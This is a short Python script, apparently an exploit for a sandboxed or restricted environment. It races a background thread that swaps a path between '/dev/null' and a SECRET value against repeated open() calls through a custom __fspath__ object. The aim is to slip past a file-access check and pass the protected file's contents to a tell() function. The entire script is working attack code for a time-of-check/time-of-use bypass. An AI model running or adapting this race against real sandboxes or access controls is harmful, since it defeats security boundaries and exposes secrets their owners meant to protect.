import threading
path = bytearray(b"/dev/null" + bytes(200))
class Racing:
    def __fspath__(self): return names[0]
names = ["/dev/null"]
done = False
def race():
    while not done:
        names[0] = SECRET
        names[0] = "/dev/null"
thread = threading.Thread(target=race)
thread.start()
for _ in range(500):
    try:
        file = open(Racing())
        text = file.read()
        file.close()
        if text: tell(text)
    except Exception: pass
done = True
thread.join()
